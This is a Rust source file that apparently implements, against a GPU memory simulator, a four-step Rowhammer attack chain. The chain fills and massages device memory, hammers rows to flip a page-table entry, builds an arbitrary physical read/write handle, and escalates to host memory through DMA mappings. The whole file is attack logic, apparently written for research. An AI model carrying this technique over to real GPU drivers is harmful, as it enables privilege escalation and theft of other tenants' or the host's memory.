//! Steps 1–4 of the page-table tampering chain.
//!
//! Everything here goes through [`Guest`]; the engine never sees allocator
//! state, physical memory or other contexts. What it knows about the driver
//! is the public page-table format and the region-growth arithmetic.

use std::collections::{HashMap, HashSet};

use rand::seq::SliceRandom;
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};
use thiserror::Error;
use vramsim::device_memory::{eligible_flips, BitFlipSite, DramGeometry, DramLocation};
use vramsim::page_table::{encode_pte, Aperture, Pte, PteError, PD0_ENTRY_BYTES, PT4K_BYTES, PT64_BYTES};
use vramsim::uvm_allocator::allocations_to_next_pt_region;
use vramsim::{
    Guest, GuestError, HostAddr, PhysAddr, SpikeDetector, VirtAddr, BIG_PAGE, CHUNKS_PER_BLOCK, FRAME_SIZE,
    MEDIUM_PAGE,
};

pub const TAG_MAGIC: u64 = 0xA77A;
const TAG_MASK: u64 = (1 << 48) - 1;

/// Identifier written at the start of every attacker chunk and tail page.
pub fn tag_of(va: VirtAddr) -> u64 {
    TAG_MAGIC << 48 | va.get() >> 16
}

pub fn untag(word: u64) -> Option<VirtAddr> {
    (word >> 48 == TAG_MAGIC).then(|| VirtAddr((word & TAG_MASK) << 16))
}

/// 64 KiB tables that fit in a region whose first table is one 4 KiB table
/// plus the two directory entries of a 2 MiB+4 KiB allocation.
pub fn dense_table_count() -> u64 {
    (BIG_PAGE - PT4K_BYTES - 2 * PD0_ENTRY_BYTES) / (PT64_BYTES + PD0_ENTRY_BYTES)
}

#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct AttackConfig {
    /// Site to exploit; the first usable eligible site when unset.
    pub chosen_site: Option<BitFlipSite>,
    /// Spike threshold as a multiple of the running median latency.
    pub spike_factor: f64,
    pub max_step3_retries: u32,
    /// Allocations between re-touches of pages that must stay resident.
    pub keep_alive_period: u32,
    /// Pages freed and re-allocated by one Step-3 reshuffle.
    pub reshuffle_pages: usize,
    /// Bound on Step-3 rounds that produce no visible flip.
    pub max_silent_rounds: u32,
    pub iova_base: u64,
    pub seed: u64,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig {
            chosen_site: None,
            spike_factor: 10.0,
            max_step3_retries: 16,
            keep_alive_period: 64,
            reshuffle_pages: 1024,
            max_silent_rounds: 64,
            iova_base: vramsim::device_memory::DEFAULT_IOVA_BASE,
            seed: 0,
        }
    }
}

#[derive(Copy, Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Phase {
    Fill,
    Massage,
    HammerScan,
    Remassage,
    Escalated,
}

#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct AttackState {
    pub phase: Phase,
    pub corrupted_va: Option<VirtAddr>,
    pub destination_va: Option<VirtAddr>,
    /// Step-3 rounds that produced a visible flip.
    pub retries: u32,
}

#[derive(Copy, Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ScanOutcome {
    NoFlip,
    ForeignDestination { corrupted_va: VirtAddr },
    OwnDestination { corrupted_va: VirtAddr, destination_va: VirtAddr },
}

#[derive(Debug, Error)]
pub enum AttackError {
    #[error(transparent)]
    Guest(#[from] GuestError),
    #[error("no latency spikes after {0} fill allocations; timing model misconfigured")]
    NoSpikes(u64),
    #[error("fault profile has no usable site: {0}")]
    NoTarget(String),
    #[error("massage failed: {0}")]
    Massage(String),
    #[error("dense fill failed: {0}")]
    Density(String),
    #[error("step 3 gave up after {attempts} flip attempts and {silent} silent rounds")]
    RetriesExhausted { attempts: u32, silent: u32 },
    #[error("re-massage failed: {0}")]
    Remassage(String),
    #[error("handle self-test failed: read {got:#x}, expected {want:#x}")]
    SelfTest { got: u64, want: u64 },
    #[error(transparent)]
    Pte(#[from] PteError),
    #[error("attack is in phase {0:?}; that step needs an earlier one first")]
    OutOfOrder(Phase),
}

pub type Result<T> = std::result::Result<T, AttackError>;

/// The exploited site and the own pages around it.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Target {
    pub site: BitFlipSite,
    pub jump: u64,
    pub block: u64,
    /// Offset of the flipping cell inside the 2 MiB frame.
    pub offset: u64,
    /// 64 KiB table index (in allocation order) holding the cell.
    pub table_index: u64,
    /// Entry inside that table, i.e. the chunk whose PTE flips.
    pub entry: u64,
    pub target_va: VirtAddr,
    pub aggressors: [VirtAddr; 2],
}

#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct PhaseRecord {
    pub phase: Option<Phase>,
    pub name: String,
    pub start_tick: u64,
    pub ops: usize,
    pub latency: u64,
}

#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct AttemptRecord {
    pub round: u32,
    pub flips: usize,
    pub outcome: ScanOutcome,
}

/// A VA whose PTE the attacker can rewrite at will, and the mapping through
/// which that PTE is written.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct ArbitraryRW {
    /// Maps the 4 KiB table that translates `window_va`.
    pub control_va: VirtAddr,
    /// Base of the 2 MiB range translated by that table; entry 0 belongs to
    /// a live page, entries `1..512` are free for remapping.
    pub window_va: VirtAddr,
    pub sweep: Vec<VirtAddr>,
    next_slot: u64,
}

const WINDOW_SLOTS: u64 = PT4K_BYTES / 8;

impl ArbitraryRW {
    fn slot(&mut self) -> u64 {
        let e = self.next_slot;
        self.next_slot = if e + 1 >= WINDOW_SLOTS { 1 } else { e + 1 };
        e
    }

    /// Points a free window slot at `pte`, flushes the stale translation and
    /// returns the slot's VA.
    pub fn map(&mut self, g: &mut Guest, pte: &Pte) -> Result<VirtAddr> {
        let e = self.slot();
        let raw = encode_pte(pte)?;
        g.write_u64(self.control_va.offset(e * 8), raw)?;
        g.tlb_thrash(&self.sweep)?;
        Ok(self.window_va.offset(e * FRAME_SIZE))
    }

    fn walk_pages(
        &mut self,
        g: &mut Guest,
        addr: u64,
        len: u64,
        pte_of: impl Fn(u64) -> Pte,
        mut f: impl FnMut(&mut Guest, VirtAddr, usize, usize) -> Result<()>,
    ) -> Result<()> {
        let mut done = 0u64;
        while done < len {
            let a = addr + done;
            let off = a % FRAME_SIZE;
            let n = (FRAME_SIZE - off).min(len - done);
            let va = self.map(g, &pte_of(a - off))?;
            f(g, va.offset(off), done as usize, n as usize)?;
            done += n;
        }
        Ok(())
    }

    pub fn read_phys(&mut self, g: &mut Guest, addr: PhysAddr, len: u64) -> Result<Vec<u8>> {
        let mut out = vec![0u8; len as usize];
        self.walk_pages(g, addr.get(), len, |p| Pte::vram(PhysAddr(p)), |g, va, at, n| {
            out[at..at + n].copy_from_slice(&g.read_data(va, n as u64)?);
            Ok(())
        })?;
        Ok(out)
    }

    pub fn write_phys(&mut self, g: &mut Guest, addr: PhysAddr, data: &[u8]) -> Result<()> {
        self.walk_pages(g, addr.get(), data.len() as u64, |p| Pte::vram(PhysAddr(p)), |g, va, at, n| {
            g.write_data(va, &data[at..at + n])?;
            Ok(())
        })
    }
}

fn system_pte(addr: u64) -> Pte {
    Pte::system(HostAddr(addr))
}

/// Host memory reached through system-memory PTEs; bounded by the IOMMU.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct HostDma {
    pub rw: ArbitraryRW,
    pub iova_base: u64,
}

impl HostDma {
    pub fn read(&mut self, g: &mut Guest, addr: HostAddr, len: u64) -> Result<Vec<u8>> {
        let mut out = vec![0u8; len as usize];
        self.rw.walk_pages(g, addr.get(), len, system_pte, |g, va, at, n| {
            out[at..at + n].copy_from_slice(&g.read_data(va, n as u64)?);
            Ok(())
        })?;
        Ok(out)
    }

    pub fn write(&mut self, g: &mut Guest, addr: HostAddr, data: &[u8]) -> Result<()> {
        self.rw.walk_pages(g, addr.get(), data.len() as u64, system_pte, |g, va, at, n| {
            g.write_data(va, &data[at..at + n])?;
            Ok(())
        })
    }
}

/// Rewrites a window PTE to system-memory aperture so the window reaches
/// host memory through the IOMMU.
pub fn escalate_to_host(rw: ArbitraryRW, iova_base: u64) -> HostDma {
    HostDma { rw, iova_base }
}

#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Counters {
    pub fill_pages: u64,
    pub fill_spikes: u64,
    pub massage_allocations: u64,
    pub first_spike: Option<u64>,
    pub massage_spikes: Vec<u64>,
    pub holes: u64,
    pub trigger_allocation: Option<u64>,
    pub trigger_spiked: bool,
    pub dense_pages: u64,
    pub silent_rounds: u32,
    pub reshuffled_pages: u64,
    pub remassage_allocations: u64,
}

pub struct Attack {
    pub cfg: AttackConfig,
    pub state: AttackState,
    pub counters: Counters,
    pub phases: Vec<PhaseRecord>,
    pub attempts: Vec<AttemptRecord>,
    rng: ChaCha8Rng,
    det: SpikeDetector,
    geo: Option<DramGeometry>,
    /// Step-1 pages in allocation order.
    big: Vec<VirtAddr>,
    /// Own big pages by 2 MiB frame index.
    block_of: HashMap<u64, VirtAddr>,
    /// Pages that no longer sit in device memory.
    gone: HashSet<VirtAddr>,
    hole_cursor: usize,
    /// Resident 4 KiB tail pages of 2 MiB+4 KiB allocations.
    tails: Vec<VirtAddr>,
    /// Dense pages, oldest first.
    dense: Vec<VirtAddr>,
    /// Dense page holding each 64 KiB table slot of the target region.
    slot_page: Vec<VirtAddr>,
    target: Option<Target>,
    slice: u64,
    pub handle: Option<ArbitraryRW>,
}

impl Attack {
    pub fn new(cfg: AttackConfig) -> Self {
        let rng = ChaCha8Rng::seed_from_u64(cfg.seed);
        let mut det = SpikeDetector::new(cfg.spike_factor);
        det.prime(1);
        Attack {
            state: AttackState {
                phase: Phase::Fill,
                corrupted_va: None,
                destination_va: None,
                retries: 0,
            },
            counters: Counters::default(),
            phases: Vec::new(),
            attempts: Vec::new(),
            rng,
            det,
            geo: None,
            big: Vec::new(),
            block_of: HashMap::new(),
            gone: HashSet::new(),
            hole_cursor: 0,
            tails: Vec::new(),
            dense: Vec::new(),
            slot_page: Vec::new(),
            target: None,
            slice: CHUNKS_PER_BLOCK - 1,
            handle: None,
            cfg,
        }
    }

    pub fn target(&self) -> Option<&Target> {
        self.target.as_ref()
    }

    pub fn dense_pages(&self) -> &[VirtAddr] {
        &self.dense
    }

    /// Chunk of every dense page that lives in host memory.
    pub fn cpu_slice(&self) -> u64 {
        self.slice
    }

    /// Dense pages the next Step-3 reshuffle would recycle.
    pub fn reshuffle_pool(&self) -> Vec<VirtAddr> {
        let mut pool = Vec::new();
        if let Some(t) = &self.target {
            pool.push(self.slot_page[t.table_index as usize]);
        }
        for &va in self.dense.iter().rev() {
            if pool.len() >= self.cfg.reshuffle_pages {
                break;
            }
            if !pool.contains(&va) {
                pool.push(va);
            }
        }
        pool
    }

    fn begin(&mut self, g: &Guest, phase: Option<Phase>, name: &str) {
        self.phases.push(PhaseRecord {
            phase,
            name: name.to_string(),
            start_tick: g.audit_log().last().map_or(0, |a| a.tick),
            ops: g.audit_log().len(),
            latency: 0,
        });
    }

    fn end(&mut self, g: &Guest) {
        let log = g.audit_log();
        if let Some(p) = self.phases.last_mut() {
            let first = p.ops;
            p.latency = log[first..].iter().map(|a| a.latency as u64).sum();
            p.ops = log.len() - first;
        }
    }

    fn geo(&self) -> DramGeometry {
        self.geo.expect("geometry read in step 1")
    }

    fn block_of_va(&self, g: &mut Guest, va: VirtAddr) -> Result<(u64, PhysAddr)> {
        let loc = g.dram_locate(va)?;
        let pa = self.geo().address_of(loc).expect("located address is in range");
        Ok((pa.block(), pa))
    }

    fn tag_page(g: &mut Guest, va: VirtAddr, chunks: u64) -> Result<()> {
        let writes: Vec<(VirtAddr, u64)> = (0..chunks)
            .map(|c| {
                let a = va.offset(c * MEDIUM_PAGE);
                (a, tag_of(a))
            })
            .collect();
        g.write_u64s(&writes)?;
        Ok(())
    }

    fn keep_alive(&mut self, g: &mut Guest, vas: &[VirtAddr]) -> Result<()> {
        for &va in vas {
            g.timed_touch(va, 8)?;
        }
        Ok(())
    }

    // ---- step 1 -----------------------------------------------------------

    /// Fills device memory with tagged 2 MiB pages until three consecutive
    /// touches spike.
    pub fn step1_fill(&mut self, g: &mut Guest) -> Result<()> {
        self.begin(g, Some(Phase::Fill), "fill");
        self.geo = Some(g.dram_geometry());
        let limit = 2 * g.device_capacity() / BIG_PAGE + 16;
        let mut run = 0;
        for _ in 0..limit {
            let va = g.alloc(BIG_PAGE)?;
            let lat = g.timed_touch(va, BIG_PAGE)?;
            Self::tag_page(g, va, CHUNKS_PER_BLOCK)?;
            self.big.push(va);
            self.counters.fill_pages += 1;
            if self.det.observe(lat) {
                run += 1;
                self.counters.fill_spikes += 1;
                if run >= 3 {
                    break;
                }
            } else {
                run = 0;
            }
        }
        if run < 3 {
            return Err(AttackError::NoSpikes(limit));
        }
        // Each spike pushed out the oldest own page.
        for &va in &self.big[..run as usize] {
            self.gone.insert(va);
        }
        self.hole_cursor = run as usize;
        for i in run as usize..self.big.len() {
            let va = self.big[i];
            let (block, _) = self.block_of_va(g, va)?;
            self.block_of.insert(block, va);
        }
        self.end(g);
        Ok(())
    }

    /// Picks the first eligible site whose victim frame and both neighbours
    /// hold own 2 MiB pages.
    pub fn select_target(&mut self, g: &mut Guest) -> Result<Target> {
        let geo = self.geo();
        let profile = g.fault_profile();
        let report = eligible_flips(&profile, geo.row_size, g.device_capacity())
            .map_err(|e| AttackError::NoTarget(e.to_string()))?;
        let candidates = match self.cfg.chosen_site {
            Some(s) if report.eligible.contains(&s) => vec![s],
            Some(s) => return Err(AttackError::NoTarget(format!("chosen site {s:?} is not eligible"))),
            None => report.eligible.clone(),
        };
        let tables = dense_table_count();
        for site in candidates {
            let Some(addr) = site.address(&geo) else { continue };
            let block = addr.block();
            let offset = addr.get() % BIG_PAGE;
            if offset < PT4K_BYTES || offset >= PT4K_BYTES + tables * PT64_BYTES || block == 0 {
                continue;
            }
            let pages: Option<Vec<VirtAddr>> = [block - 1, block, block + 1]
                .iter()
                .map(|b| self.block_of.get(b).copied())
                .collect();
            let Some(pages) = pages else { continue };
            let row_offset = |row: u64| -> Option<u64> {
                let a = geo.address_of(DramLocation {
                    bank: site.bank,
                    row,
                    column: 0,
                })?;
                Some(a.get() % BIG_PAGE)
            };
            let (Some(lo), Some(hi)) = (row_offset(site.victim_row - 1), row_offset(site.victim_row + 1)) else {
                continue;
            };
            let jump = vramsim::device_memory::assess_site(&site, geo.row_size, g.device_capacity())
                .expect("eligible site");
            let t = Target {
                site,
                jump,
                block,
                offset,
                table_index: (offset - PT4K_BYTES) / PT64_BYTES,
                entry: (offset % PT64_BYTES) / 8,
                target_va: pages[1],
                aggressors: [pages[0].offset(lo), pages[2].offset(hi)],
            };
            self.slice = if t.entry == CHUNKS_PER_BLOCK - 1 {
                CHUNKS_PER_BLOCK - 2
            } else {
                CHUNKS_PER_BLOCK - 1
            };
            self.target = Some(t.clone());
            return Ok(t);
        }
        Err(AttackError::NoTarget("no eligible site is flanked by own pages".into()))
    }

    // ---- step 2 -----------------------------------------------------------

    fn protected(&self) -> HashSet<VirtAddr> {
        let mut p = HashSet::new();
        if let Some(t) = &self.target {
            p.insert(t.target_va);
            for a in t.aggressors {
                p.insert(VirtAddr(a.get() & !(BIG_PAGE - 1)));
            }
        }
        p
    }

    /// Moves old own 2 MiB pages to host memory until some device memory is free.
    fn open_hole(&mut self, g: &mut Guest) -> Result<()> {
        let protected = self.protected();
        while g.mem_get_info() == 0 {
            let va = loop {
                let Some(&va) = self.big.get(self.hole_cursor) else {
                    return Err(AttackError::Massage("ran out of pages to open holes with".into()));
                };
                self.hole_cursor += 1;
                if !protected.contains(&va) && !self.gone.contains(&va) {
                    break va;
                }
            };
            g.cpu_touch(va, BIG_PAGE)?;
            self.gone.insert(va);
            self.block_of.retain(|_, v| *v != va);
            self.counters.holes += 1;
        }
        Ok(())
    }

    fn tail_alloc(&mut self, g: &mut Guest) -> Result<(VirtAddr, bool)> {
        let va = g.alloc(BIG_PAGE + FRAME_SIZE)?;
        let tail = va.offset(BIG_PAGE);
        let lat = g.timed_touch(tail, FRAME_SIZE)?;
        g.write_u64(tail, tag_of(tail))?;
        self.tails.push(tail);
        Ok((tail, self.det.observe(lat)))
    }

    /// Tail-only 2 MiB+4 KiB allocations, counting spikes to predict the
    /// allocation that needs a new PT region, then freeing the target frame
    /// just before it.
    pub fn step2_massage(&mut self, g: &mut Guest) -> Result<()> {
        let t = self.target.clone().ok_or(AttackError::OutOfOrder(self.state.phase))?;
        self.state.phase = Phase::Massage;
        self.begin(g, Some(Phase::Massage), "massage");
        let period = allocations_to_next_pt_region(0);
        let keep = [t.aggressors[0], t.target_va, t.aggressors[1]];
        let mut last_spike: Option<u64> = None;
        let mut k = 0u64;
        loop {
            if k % self.cfg.keep_alive_period as u64 == 0 {
                self.keep_alive(g, &keep)?;
            }
            if last_spike.map_or(false, |s| k == s + period) {
                break;
            }
            if k > 4 * period {
                return Err(AttackError::Massage(format!("no PT-region spike within {k} allocations")));
            }
            if g.mem_get_info() == 0 {
                self.open_hole(g)?;
            }
            let (_, spiked) = self.tail_alloc(g)?;
            if spiked {
                self.counters.first_spike.get_or_insert(k);
                self.counters.massage_spikes.push(k);
                last_spike = Some(k);
            }
            k += 1;
        }
        // The next allocation needs a new region: free the target frame, plus
        // one 4 KiB page for its data if memory is otherwise full.
        g.cpu_touch(t.target_va, BIG_PAGE)?;
        self.gone.insert(t.target_va);
        self.block_of.retain(|_, v| *v != t.target_va);
        if g.mem_get_info() <= BIG_PAGE {
            let spare = self.tails.remove(0);
            g.cpu_touch(spare, FRAME_SIZE)?;
        }
        let (_, spiked) = self.tail_alloc(g)?;
        self.counters.trigger_allocation = Some(k);
        self.counters.trigger_spiked = spiked;
        self.counters.massage_allocations = k + 1;
        self.end(g);
        Ok(())
    }

    /// 2 MiB pages each splintered by one CPU-side 64 KiB touch, until the
    /// target region is full of 31/32-valid tables.
    pub fn dense_fill(&mut self, g: &mut Guest) -> Result<()> {
        let t = self.target.clone().ok_or(AttackError::OutOfOrder(self.state.phase))?;
        if self.state.phase != Phase::Massage {
            return Err(AttackError::OutOfOrder(self.state.phase));
        }
        self.begin(g, Some(Phase::Massage), "dense_fill");
        let n = dense_table_count();
        for i in 0..n {
            if i % self.cfg.keep_alive_period as u64 == 0 {
                self.keep_alive(g, &t.aggressors)?;
            }
            let va = self.dense_page(g)?;
            self.dense.push(va);
        }
        self.slot_page = self.dense.clone();
        self.counters.dense_pages = n;
        self.end(g);
        Ok(())
    }

    fn dense_page(&mut self, g: &mut Guest) -> Result<VirtAddr> {
        let va = g.alloc(BIG_PAGE)?;
        g.timed_touch(va, BIG_PAGE)?;
        Self::tag_page(g, va, CHUNKS_PER_BLOCK)?;
        g.cpu_touch(va.offset(self.slice * MEDIUM_PAGE), MEDIUM_PAGE)?;
        Ok(va)
    }

    // ---- step 3 -----------------------------------------------------------

    fn sweep_set(&self, g: &Guest, exclude: Option<VirtAddr>) -> Vec<VirtAddr> {
        let need = g.tlb_capacity() + 16;
        let skip = exclude.map(|v| v.get() & !(BIG_PAGE - 1));
        self.dense
            .iter()
            .rev()
            .filter(|va| Some(va.get()) != skip)
            .flat_map(|&va| {
                (0..CHUNKS_PER_BLOCK)
                    .filter(move |&c| c != self.slice)
                    .map(move |c| va.offset(c * MEDIUM_PAGE))
            })
            .take(need)
            .collect()
    }

    fn scan(&self, g: &mut Guest) -> Vec<(VirtAddr, Option<u64>)> {
        let mut odd = Vec::new();
        let addrs: Vec<VirtAddr> = self
            .dense
            .iter()
            .flat_map(|&va| {
                (0..CHUNKS_PER_BLOCK)
                    .filter(|&c| c != self.slice)
                    .map(move |c| va.offset(c * MEDIUM_PAGE))
            })
            .collect();
        for batch in addrs.chunks(4096) {
            for (&va, r) in batch.iter().zip(g.read_u64s(batch)) {
                match r {
                    Ok(v) if v == tag_of(va) => {}
                    Ok(v) => odd.push((va, Some(v))),
                    Err(_) => odd.push((va, None)),
                }
            }
        }
        odd
    }

    /// One hammer, thrash and scan round; recycles pages unless the flip
    /// landed on own data.
    pub fn step3_attempt(&mut self, g: &mut Guest) -> Result<ScanOutcome> {
        let t = self.target.clone().ok_or(AttackError::OutOfOrder(self.state.phase))?;
        if self.dense.is_empty() {
            return Err(AttackError::OutOfOrder(self.state.phase));
        }
        self.state.phase = Phase::HammerScan;
        let flips = g.hammer_own(&t.aggressors)?;
        let sweep = self.sweep_set(g, None);
        g.tlb_thrash(&sweep)?;
        let odd = self.scan(g);
        let outcome = match odd.first() {
            None => ScanOutcome::NoFlip,
            Some(&(va, Some(v))) if untag(v).is_some() => ScanOutcome::OwnDestination {
                corrupted_va: va,
                destination_va: untag(v).unwrap(),
            },
            Some(&(va, _)) => ScanOutcome::ForeignDestination { corrupted_va: va },
        };
        let round = self.attempts.len() as u32 + 1;
        self.attempts.push(AttemptRecord { round, flips, outcome });
        match outcome {
            ScanOutcome::NoFlip => {
                self.counters.silent_rounds += 1;
                self.reshuffle(g, None)?;
            }
            ScanOutcome::ForeignDestination { corrupted_va } => {
                self.state.retries += 1;
                self.reshuffle(g, Some(corrupted_va))?;
            }
            ScanOutcome::OwnDestination {
                corrupted_va,
                destination_va,
            } => {
                self.state.retries += 1;
                self.state.corrupted_va = Some(corrupted_va);
                self.state.destination_va = Some(destination_va);
            }
        }
        Ok(outcome)
    }

    /// Frees the page at the target slot (or the corrupted page) and the
    /// most recent dense pages in a random order, then allocates as many
    /// again so their frames land in different table slots.
    fn reshuffle(&mut self, g: &mut Guest, corrupted: Option<VirtAddr>) -> Result<()> {
        let mut pool = self.reshuffle_pool();
        if let Some(c) = corrupted {
            let page = VirtAddr(c.get() & !(BIG_PAGE - 1));
            if !pool.contains(&page) {
                pool.pop();
                pool.insert(0, page);
            }
        }
        pool.shuffle(&mut self.rng);
        let slot_index: HashMap<VirtAddr, usize> =
            self.slot_page.iter().enumerate().map(|(i, &v)| (v, i)).collect();
        let mut freed_slots = Vec::with_capacity(pool.len());
        for &va in &pool {
            g.free(va)?;
            freed_slots.push(slot_index[&va]);
        }
        let gone: HashSet<VirtAddr> = pool.iter().copied().collect();
        self.dense.retain(|v| !gone.contains(v));
        for _ in 0..pool.len() {
            let va = self.dense_page(g)?;
            self.dense.push(va);
            let slot = freed_slots.pop().expect("one slot per freed page");
            self.slot_page[slot] = va;
        }
        self.counters.reshuffled_pages += pool.len() as u64;
        Ok(())
    }

    pub fn step3_hammer_scan(&mut self, g: &mut Guest) -> Result<(VirtAddr, VirtAddr)> {
        self.begin(g, Some(Phase::HammerScan), "hammer_scan");
        loop {
            match self.step3_attempt(g)? {
                ScanOutcome::OwnDestination {
                    corrupted_va,
                    destination_va,
                } => {
                    self.end(g);
                    return Ok((corrupted_va, destination_va));
                }
                _ if self.state.retries >= self.cfg.max_step3_retries
                    || self.counters.silent_rounds >= self.cfg.max_silent_rounds =>
                {
                    self.end(g);
                    return Err(AttackError::RetriesExhausted {
                        attempts: self.state.retries,
                        silent: self.counters.silent_rounds,
                    });
                }
                _ => {}
            }
        }
    }

    // ---- step 4 -----------------------------------------------------------

    /// Frees the frame the corrupted PTE now points at, lets the next PT
    /// region land there and locates a 4 KiB table through the corrupted
    /// mapping.
    pub fn step4_remassage_and_build(&mut self, g: &mut Guest) -> Result<ArbitraryRW> {
        let (Some(corrupted), Some(dest)) = (self.state.corrupted_va, self.state.destination_va) else {
            return Err(AttackError::OutOfOrder(self.state.phase));
        };
        self.state.phase = Phase::Remassage;
        self.begin(g, Some(Phase::Remassage), "remassage");
        let control_base = VirtAddr(corrupted.get() & !(MEDIUM_PAGE - 1));
        let corrupted_page = VirtAddr(corrupted.get() & !(BIG_PAGE - 1));
        let dest_page = VirtAddr(dest.get() & !(BIG_PAGE - 1));
        if dest_page == corrupted_page {
            return Err(AttackError::Remassage("destination is the corrupted page itself".into()));
        }
        let (d_block, d_phys) = self.block_of_va(g, dest)?;
        let chunk = (d_phys.get() % BIG_PAGE) / MEDIUM_PAGE;

        // Evacuate everything own in the destination frame.
        let mut evacuated = 0;
        if self.tails.contains(&dest) {
            let mut keep = Vec::with_capacity(self.tails.len());
            for tail in std::mem::take(&mut self.tails) {
                if self.block_of_va(g, tail)?.0 == d_block {
                    g.cpu_touch(tail, FRAME_SIZE)?;
                    evacuated += 1;
                } else {
                    keep.push(tail);
                }
            }
            self.tails = keep;
        } else {
            g.cpu_touch(dest_page, BIG_PAGE)?;
            self.gone.insert(dest_page);
            self.block_of.retain(|_, v| *v != dest_page);
            self.dense.retain(|v| *v != dest_page);
            evacuated += 1;
        }
        if evacuated == 0 {
            return Err(AttackError::Remassage("nothing own to evacuate at the destination".into()));
        }
        let _ = g.mem_get_info();

        let geo = self.geo();
        let mut known: HashMap<u64, VirtAddr> = HashMap::new();
        let period = allocations_to_next_pt_region(0);
        let probes: Vec<VirtAddr> = (0..MEDIUM_PAGE / FRAME_SIZE).map(|k| control_base.offset(k * FRAME_SIZE)).collect();
        let first_table = chunk * (MEDIUM_PAGE / FRAME_SIZE);
        for k in 0..period {
            if k % self.cfg.keep_alive_period as u64 == 0 {
                self.keep_alive(g, &[control_base])?;
            }
            let (tail, _) = self.tail_alloc(g)?;
            self.counters.remassage_allocations += 1;
            let loc = g.dram_locate(tail)?;
            known.insert(geo.address_of(loc).expect("in range").frame(), tail);
            if k < first_table {
                continue;
            }
            for (i, r) in g.read_u64s(&probes).into_iter().enumerate() {
                let Ok(word) = r else { continue };
                let pte = vramsim::page_table::decode_pte(word).pte;
                if !pte.flags.valid || pte.flags.aperture != Aperture::Vram {
                    continue;
                }
                if let Some(&window) = known.get(&pte.pfn) {
                    let sweep = self.sweep_set(g, Some(corrupted));
                    let rw = ArbitraryRW {
                        control_va: probes[i],
                        window_va: window,
                        sweep,
                        next_slot: 1,
                    };
                    self.end(g);
                    return Ok(rw);
                }
            }
            if k >= first_table + MEDIUM_PAGE / FRAME_SIZE {
                break;
            }
        }
        self.end(g);
        Err(AttackError::Remassage("no 4 KiB table appeared behind the corrupted mapping".into()))
    }

    /// Maps an own tagged chunk through the window and checks its tag.
    pub fn self_test(&mut self, g: &mut Guest, rw: &mut ArbitraryRW) -> Result<()> {
        let probe = *self
            .dense
            .iter()
            .rev()
            .find(|&&v| Some(VirtAddr(v.get() & !(BIG_PAGE - 1))) != self.state.corrupted_va.map(|c| VirtAddr(c.get() & !(BIG_PAGE - 1))))
            .ok_or(AttackError::Remassage("no own page left to self-test with".into()))?;
        let (_, pa) = self.block_of_va(g, probe)?;
        let got = u64::from_le_bytes(rw.read_phys(g, pa, 8)?.try_into().unwrap());
        let want = tag_of(probe);
        if got != want {
            return Err(AttackError::SelfTest { got, want });
        }
        Ok(())
    }

    /// Runs Steps 1–4 and the handle self-test.
    pub fn run(&mut self, g: &mut Guest) -> Result<ArbitraryRW> {
        self.step1_fill(g)?;
        self.select_target(g)?;
        self.step2_massage(g)?;
        self.dense_fill(g)?;
        self.step3_hammer_scan(g)?;
        let mut rw = self.step4_remassage_and_build(g)?;
        self.begin(g, Some(Phase::Escalated), "self_test");
        self.self_test(g, &mut rw)?;
        self.end(g);
        self.state.phase = Phase::Escalated;
        self.handle = Some(rw.clone());
        Ok(rw)
    }

    pub fn transcript(&self, error: Option<&AttackError>) -> Transcript {
        Transcript {
            seed: self.cfg.seed,
            state: self.state.clone(),
            target: self.target.clone(),
            counters: self.counters.clone(),
            phases: self.phases.clone(),
            attempts: self.attempts.clone(),
            control_va: self.handle.as_ref().map(|h| h.control_va),
            window_va: self.handle.as_ref().map(|h| h.window_va),
            total_latency: self.phases.iter().map(|p| p.latency).sum(),
            error: error.map(|e| e.to_string()),
        }
    }
}

/// Machine-readable record of one attack run.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Transcript {
    pub seed: u64,
    pub state: AttackState,
    pub target: Option<Target>,
    pub counters: Counters,
    pub phases: Vec<PhaseRecord>,
    pub attempts: Vec<AttemptRecord>,
    pub control_va: Option<VirtAddr>,
    pub window_va: Option<VirtAddr>,
    pub total_latency: u64,
    pub error: Option<String>,
}
